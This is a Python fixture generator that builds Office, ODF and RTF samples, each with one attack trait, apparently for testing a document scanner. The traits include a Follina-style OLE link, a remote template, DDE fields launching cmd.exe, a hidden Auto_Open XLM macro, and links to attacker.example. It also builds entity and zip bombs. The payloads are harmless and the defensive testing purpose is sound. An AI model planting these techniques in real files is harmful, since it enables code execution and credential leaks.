"""Office samples: real documents made with python-docx, python-pptx and XlsxWriter, then given
one attack trait each by editing the package the way attackers do. The macro samples carry the
harmless VBA project in samples/fixtures/ (a Sub showing a message box; licence there)."""

from __future__ import annotations

import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pptx
import xlsxwriter

FIXTURE = Path(__file__).resolve().parent / "fixtures" / "vbaProject.bin"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
VBA_REL = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
TEXT = ["令和8年度 予算要求書 ①㈱ 髙橋", "The quick brown fox jumps over the lazy dog.", "第2段落 ～ テスト"]
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
O_NS = 'xmlns:o="urn:schemas-microsoft-com:office:office"'
V_NS = 'xmlns:v="urn:schemas-microsoft-com:vml"'
R_NS = f'xmlns:r="{REL}"'


def vba_project() -> bytes:
    return FIXTURE.read_bytes()


def rewrite(path: Path, target: Path, *, add: dict[str, bytes] | None = None,
            edit: dict[str, Callable[[str], str]] | None = None) -> None:
    """Copy an OOXML package, adding parts and editing XML parts as text."""
    add, edit = add or {}, edit or {}
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        names = source.namelist()
        for name in names:
            data = source.read(name)
            if name in edit:
                data = edit.pop(name)(data.decode("utf-8")).encode("utf-8")
            out.writestr(name, data)
        for name, func in edit.items():  # parts that did not exist yet
            out.writestr(name, func("").encode("utf-8"))
        for name, data in add.items():
            out.writestr(name, data)


def add_rel(rels: str, rel_id: str, rel_type: str, target: str, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    entry = f'<Relationship Id="{rel_id}" Type="{rel_type}" Target="{target}"{mode}/>'
    if not rels:
        return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
                f'"http://schemas.openxmlformats.org/package/2006/relationships">{entry}</Relationships>')
    return rels.replace("</Relationships>", entry + "</Relationships>")


def add_override(types: str, part: str, ctype: str) -> str:
    return types.replace("</Types>", f'<Override PartName="{part}" ContentType="{ctype}"/></Types>')


def set_main_type(types: str, part: str, ctype: str) -> str:
    return re.sub(rf'(<Override PartName="{re.escape(part)}" ContentType=")[^"]+', rf"\g<1>{ctype}", types)


def in_body(xml: str, fragment: str) -> str:
    return xml.replace("<w:body>", "<w:body>" + fragment, 1)


def make_docx(out: Path) -> Path:
    clean = out / "docx-clean.docx"
    document = docx.Document()
    for line in TEXT:
        document.add_paragraph(line)
    document.save(str(clean))
    return clean


def make_word_samples(out: Path) -> None:
    clean = make_docx(out)
    doc_rels, types = "word/_rels/document.xml.rels", "[Content_Types].xml"
    rewrite(clean, out / "docm-macro.docm", add={"word/vbaProject.bin": vba_project()}, edit={
        doc_rels: lambda x: add_rel(x, "rIdVba", VBA_REL, "vbaProject.bin"),
        types: lambda x: set_main_type(add_override(x, "/word/vbaProject.bin", "application/vnd.ms-office.vbaProject"),
                                       "/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
    })
    follina = (f'<w:p><w:r><w:object {O_NS} {R_NS}><o:OLEObject Type="Link" ProgID="htmlfile" '
               'ShapeID="_x0000_i1025" DrawAspect="Content" r:id="rIdFollina" UpdateMode="OnCall"/>'
               "</w:object></w:r></w:p>")
    rewrite(clean, out / "docx-follina.docx", edit={
        "word/document.xml": lambda x: in_body(x, follina),
        doc_rels: lambda x: add_rel(x, "rIdFollina", f"{REL}/oleObject",
                                    "mhtml:http://example.com/index.html!x-usc:http://example.com/index.html",
                                    external=True),
    })
    rewrite(clean, out / "docx-remote-template.docx", edit={
        "word/settings.xml": lambda x: re.sub(r"(<w:settings[^>]*>)", rf'\1<w:attachedTemplate {R_NS} r:id="rIdTpl"/>',
                                              x, count=1),
        "word/_rels/settings.xml.rels": lambda x: add_rel(x, "rIdTpl", f"{REL}/attachedTemplate",
                                                          "http://example.com/template.dotm", external=True),
    })
    dde = ('<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; ">'
           "<w:r><w:t>DDE result</w:t></w:r></w:fldSimple></w:p>"
           '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE '
           'c:\\\\windows\\\\system32\\\\cmd.exe "/c notepad" </w:instrText></w:r><w:r><w:fldChar '
           'w:fldCharType="separate"/></w:r><w:r><w:t>field result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/>'
           "</w:r></w:p>")
    rewrite(clean, out / "docx-ddeauto.docx", edit={"word/document.xml": lambda x: in_body(x, dde)})
    embedded = (f'<w:p><w:r><w:object {O_NS} {V_NS} {R_NS}><v:shape id="_x0000_i1026" style="width:60pt;height:40pt"/>'
                '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1026" DrawAspect="Icon" '
                'ObjectID="_1700000000" r:id="rIdPkg"/></w:object></w:r></w:p>')
    rewrite(clean, out / "docx-embedded-package.docx", add={"word/embeddings/oleObject1.bin": vba_project()}, edit={
        "word/document.xml": lambda x: in_body(x, embedded),
        doc_rels: lambda x: add_rel(x, "rIdPkg", f"{REL}/oleObject", "embeddings/oleObject1.bin"),
        types: lambda x: add_override(x, "/word/embeddings/oleObject1.bin",
                                      "application/vnd.openxmlformats-officedocument.oleObject"),
    })
    activex_xml = (b'<?xml version="1.0" encoding="UTF-8" standalone="no"?><ax:ocx ax:classid='
                   b'"{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistPropertyBag" '
                   b'xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>')
    control = (f'<w:p><w:r><w:object {V_NS} {R_NS}><v:shape id="_x0000_i1027" style="width:60pt;height:20pt"/>'
               '<w:control r:id="rIdAx" w:name="TextBox1" w:shapeid="_x0000_i1027"/></w:object></w:r></w:p>')
    rewrite(clean, out / "docx-activex.docx", add={"word/activeX/activeX1.xml": activex_xml}, edit={
        "word/document.xml": lambda x: in_body(x, control),
        doc_rels: lambda x: add_rel(x, "rIdAx", f"{REL}/control", "activeX/activeX1.xml"),
        types: lambda x: add_override(x, "/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
    })
    bomb_body = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">'
                 f']><w:document {W}><w:body><w:p><w:r><w:t>&lol2;</w:t></w:r></w:p></w:body></w:document>')
    rewrite(clean, out / "docx-entity-bomb.docx", edit={"word/document.xml": lambda _: bomb_body})
    with zipfile.ZipFile(out / "docx-zip-bomb.docx", "w", zipfile.ZIP_DEFLATED) as bomb:
        with zipfile.ZipFile(clean) as source:
            for name in source.namelist():
                bomb.writestr(name, source.read(name))
        info = zipfile.ZipInfo("word/media/padding.bin")
        info.compress_type = zipfile.ZIP_DEFLATED
        with bomb.open(info, "w", force_zip64=True) as member:
            for _ in range(600):  # 600 MiB of zeros, as Emotet pads documents past scanners' limits
                member.write(bytes(1 << 20))
    data = clean.read_bytes()
    (out / "docx-corrupt.docx").write_bytes(data[: len(data) // 2])


def make_excel_samples(out: Path) -> None:
    def workbook(path: Path, formulas: dict[str, str], vba: bool = False) -> None:
        book = xlsxwriter.Workbook(str(path))
        sheet = book.add_worksheet("予算")
        for row, line in enumerate(TEXT):
            sheet.write(row, 0, line)
        sheet.write_number("B1", 1200)
        for cell, formula in formulas.items():
            sheet.write_formula(cell, formula, None, 42)
        if vba:
            book.add_vba_project(str(FIXTURE))
        book.close()

    workbook(out / "xlsx-clean.xlsx", {"B2": "=B1*2"})
    workbook(out / "xlsm-macro.xlsm", {"B2": "=B1*2"}, vba=True)
    workbook(out / "xlsx-dde.xlsx", {"B2": "=B1*2", "B3": "=cmd|' /C calc'!A0"})
    base = out / "xlsx-external-base.xlsx"
    workbook(base, {"B2": "=B1*2", "B3": "=[1]Sheet1!A1"})
    link = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns='
            '"http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            f'{R_NS}><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
            "</externalBook></externalLink>").encode()
    rewrite(base, out / "xlsx-external-link.xlsx", add={"xl/externalLinks/externalLink1.xml": link}, edit={
        "xl/externalLinks/_rels/externalLink1.xml.rels": lambda x: add_rel(
            x, "rId1", f"{REL}/externalLinkPath", "file:///\\\\attacker.example\\share\\book.xlsx", external=True),
        "xl/_rels/workbook.xml.rels": lambda x: add_rel(x, "rIdExt", f"{REL}/externalLink",
                                                        "externalLinks/externalLink1.xml"),
        "xl/workbook.xml": lambda x: x.replace("</sheets>", f'</sheets><externalReferences {R_NS}>'
                                               '<externalReference r:id="rIdExt"/></externalReferences>'),
        "[Content_Types].xml": lambda x: add_override(
            x, "/xl/externalLinks/externalLink1.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"),
    })
    base.unlink()
    macrosheet = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><xm:macrosheet '
                  b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                  b'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>'
                  b'<row r="1"><c r="A1"><f>EXEC("notepad.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row>'
                  b"</sheetData></xm:macrosheet>")
    rewrite(out / "xlsx-clean.xlsx", out / "xlsm-xlm-macro.xlsm", add={"xl/macrosheets/sheet2.xml": macrosheet}, edit={
        "xl/_rels/workbook.xml.rels": lambda x: add_rel(x, "rIdXlm", "http://schemas.microsoft.com/office/2006/"
                                                        "relationships/xlMacrosheet", "macrosheets/sheet2.xml"),
        "xl/workbook.xml": lambda x: x.replace("</sheets>", f'<sheet {R_NS} name="Macro1" sheetId="9" state="hidden" '
                                               'r:id="rIdXlm"/></sheets><definedNames><definedName '
                                               'name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>'
                                               "</definedNames>", 1),
        "[Content_Types].xml": lambda x: set_main_type(add_override(
            x, "/xl/macrosheets/sheet2.xml", "application/vnd.ms-excel.macrosheet+xml"), "/xl/workbook.xml",
            "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
    })
    custom_ui = (b'<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="Auto_Ribbon">'
                 b'<ribbon/></customUI>')
    connections = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><connections xmlns='
                   b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="web" type="4" '
                   b'refreshOnLoad="1"><webPr url="http://attacker.example/data"/></connection></connections>')
    rewrite(out / "xlsx-clean.xlsx", out / "xlsx-connections-customui.xlsx", add={
        "customUI/customUI14.xml": custom_ui, "xl/connections.xml": connections}, edit={
        "_rels/.rels": lambda x: add_rel(x, "rIdUi", "http://schemas.microsoft.com/office/2007/relationships/ui/"
                                         "extensibility", "customUI/customUI14.xml"),
        "xl/_rels/workbook.xml.rels": lambda x: add_rel(x, "rIdCon", f"{REL}/connections", "connections.xml"),
        "[Content_Types].xml": lambda x: add_override(
            x, "/xl/connections.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"),
    })


def make_powerpoint_samples(out: Path) -> None:
    clean = out / "pptx-clean.pptx"
    presentation = pptx.Presentation()
    slide = presentation.slides.add_slide(presentation.slide_layouts[1])
    slide.shapes.title.text = TEXT[0]
    slide.placeholders[1].text = TEXT[1]
    presentation.save(str(clean))
    rewrite(clean, out / "pptm-macro.pptm", add={"ppt/vbaProject.bin": vba_project()}, edit={
        "ppt/_rels/presentation.xml.rels": lambda x: add_rel(x, "rIdVba", VBA_REL, "vbaProject.bin"),
        "[Content_Types].xml": lambda x: set_main_type(
            add_override(x, "/ppt/vbaProject.bin", "application/vnd.ms-office.vbaProject"), "/ppt/presentation.xml",
            "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"),
    })


def make_rtf_sample(out: Path) -> None:
    ole = vba_project().hex()
    header = "01050000" "02000000" "08000000" + "5061636b61676500".ljust(16, "0") + "00000000" "00000000"
    size = f"{len(vba_project()):08x}"
    size_le = "".join(reversed([size[i:i + 2] for i in range(0, 8, 2)]))
    rtf = ("{\\rtf1\\ansi\\ansicpg932\\deff0{\\fonttbl{\\f0 MS Mincho;}}\\f0 "
           "\\'97\\'df\\'98\\'61 sample text\\par "
           "{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata " + header + size_le + ole + "}}\\par }")
    (out / "rtf-object.rtf").write_text(rtf, encoding="ascii")


def make_legacy_samples(out: Path) -> None:
    """Binary .xls/.doc/.ppt made by LibreOffice. It keeps the VBA project only from .xlsm to .xls;
    the .doc and .ppt are plain legacy documents."""
    soffice = shutil.which("soffice")
    if soffice is None:
        return
    profile = (out / ".lo-profile").resolve()  # LibreOffice needs an absolute file: URL (a relative one hangs)
    for source, kind, name in ((out / "xlsm-macro.xlsm", "xls", "xls-macro.xls"),
                               (out / "docx-clean.docx", "doc", "doc-legacy.doc"),
                               (out / "pptx-clean.pptx", "ppt", "ppt-legacy.ppt")):
        subprocess.run([soffice, "--headless", f"-env:UserInstallation={profile.as_uri()}", "--convert-to", kind,
                        "--outdir", str(out / ".legacy"), str(source)], capture_output=True, timeout=120, check=False)
        converted = out / ".legacy" / f"{source.stem}.{kind}"
        if converted.exists():
            converted.rename(out / name)
    shutil.rmtree(out / ".legacy", ignore_errors=True)
    shutil.rmtree(profile, ignore_errors=True)


def make_encrypted_samples(out: Path) -> None:
    """Excel's default password (opens without a prompt) and a real password."""
    from msoffcrypto.format.ooxml import OOXMLFile

    for source, password, name in ((out / "xlsx-clean.xlsx", "VelvetSweatshop", "xlsx-default-password.xlsx"),
                                   (out / "docx-clean.docx", "secret-2026", "docx-password.docx")):
        with source.open("rb") as plain, (out / name).open("wb") as encrypted:
            OOXMLFile(plain).encrypt(password, encrypted)


ODF_BASIC = ('<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD '
             'OfficeDocument 1.0//EN" "module.dtd"><script:module xmlns:script="http://openoffice.org/2000/script" '
             'script:name="Module1" script:language="StarBasic">Sub Main\n MsgBox "sample"\nEnd Sub</script:module>')
ODF_LIBRARY = ('<?xml version="1.0" encoding="UTF-8"?><library:library xmlns:library="http://openoffice.org/2000/library" '
               'library:name="Standard" library:readonly="false" library:passwordprotected="false">'
               '<library:element library:name="Module1"/></library:library>')
ODF_XMLNS = ('xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
             'xmlns:xlink="http://www.w3.org/1999/xlink" '
             'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
             'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"')
ODF_EVENTS = (f'<office:scripts {ODF_XMLNS}><office:event-listeners><script:event-listener script:language="ooo:script" '
              'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic'
              '&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts>')
ODF_ACTIVE_BODY = (f'<text:p {ODF_XMLNS}>リンク画像<draw:frame draw:name="x" svg:width="1cm" svg:height="1cm" text:anchor-type="as-char">'
                   '<draw:image xlink:href="http://attacker.example/track.png" xlink:type="simple"/></draw:frame></text:p>'
                   '<text:p><text:execute-macro text:name="Main">マクロ実行</text:execute-macro></text:p>'
                   f'<text:p {ODF_XMLNS}><text:a xlink:type="simple" xlink:href="https://www.example.jp/">公式サイト</text:a></text:p>')


def make_odf_samples(out: Path) -> None:
    from odf.opendocument import OpenDocumentText
    from odf.text import P

    clean = out / "odt-clean.odt"
    document = OpenDocumentText()
    for line in TEXT:
        document.text.addElement(P(text=line))
    document.save(str(clean))

    def with_macro(content: str) -> str:
        content = content.replace("<office:body>", ODF_EVENTS + "<office:body>", 1)
        return content.replace("</office:text>", ODF_ACTIVE_BODY + "</office:text>", 1)

    def manifest(xml: str) -> str:
        entries = "".join(f'<manifest:file-entry manifest:full-path="{p}" manifest:media-type="{t}"/>' for p, t in (
            ("Basic/", ""), ("Basic/Standard/", ""), ("Basic/Standard/Module1.xml", "text/xml"),
            ("Basic/Standard/script-lb.xml", "text/xml"), ("Basic/script-lc.xml", "text/xml")))
        return xml.replace("</manifest:manifest>", entries + "</manifest:manifest>")

    library_list = ('<?xml version="1.0" encoding="UTF-8"?><library:libraries xmlns:library='
                    '"http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink">'
                    '<library:library library:name="Standard" library:link="false"/></library:libraries>')
    rewrite(clean, out / "odt-macro.odt", add={
        "Basic/Standard/Module1.xml": ODF_BASIC.encode(), "Basic/Standard/script-lb.xml": ODF_LIBRARY.encode(),
        "Basic/script-lc.xml": library_list.encode()},
        edit={"content.xml": with_macro, "META-INF/manifest.xml": manifest})


def make_office(out: Path) -> None:
    make_odf_samples(out)
    make_word_samples(out)
    make_excel_samples(out)
    make_powerpoint_samples(out)
    make_rtf_sample(out)
    make_encrypted_samples(out)
